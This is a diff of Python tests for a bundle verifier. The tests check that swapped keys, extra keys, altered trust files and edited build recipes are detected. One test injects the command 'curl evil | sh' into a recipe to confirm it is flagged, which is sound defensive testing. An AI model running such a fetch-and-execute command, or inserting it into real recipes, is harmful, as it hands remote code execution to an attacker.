@@ -29,16 +29,40 @@ def test_nothing_inside_says_what_to_trust() -> None:
     assert stage.FILES[bundle.WITNESS_POLICY] == stage.POLICY
 
 
-def test_a_key_swapped_inside_the_bundle_changes_nothing() -> None:
+def test_a_key_swapped_inside_the_bundle_is_found() -> None:
     def swap(files: stage.Files) -> None:
         first, second = (name for name in sorted(files) if name.startswith("keys/"))
         files[first], files[second] = files[second], files[first]
+
+    stage.refused(stage.mended(swap), r"keys/z\w+\.pem: got another key than that of its name")
+
+    def add(files: stage.Files) -> None:
+        files["keys/z6MkNoKey.pem"] = b"-----BEGIN PUBLIC KEY-----\n"
+
+    stage.refused(stage.mended(add), "z6MkNoKey")
+
+
+def test_a_trust_file_swapped_inside_the_bundle_changes_nothing() -> None:
+    def swap(files: stage.Files) -> None:
         files[bundle.TRUST] = print_trust(sample_log.Trust(()))
 
     assert stage.verify(stage.mended(swap)).verdict is LogVerdict.VALID
     swapped = dict(stage.FILES)
     swapped[bundle.TRUST] = b"[]\n"
     stage.refused(bundle_zip.pack(swapped), "'trust.json' added, removed, renamed or changed")
+
+
+def test_a_recipe_that_somebody_else_wrote_is_told() -> None:
+    assert stage.verify(stage.GOOD).is_recipe
+
+    def change(files: stage.Files) -> None:
+        files[bundle.RECIPE] = files[bundle.RECIPE].replace(
+            b"openssl base64", b"curl evil | sh; openssl base64"
+        )
+
+    report = stage.verify(stage.mended(change))
+    assert not report.is_recipe
+    assert report.to_json()["recipeIsKnown"] is False
 
 
 def test_a_record_swapped_for_another_one() -> None:
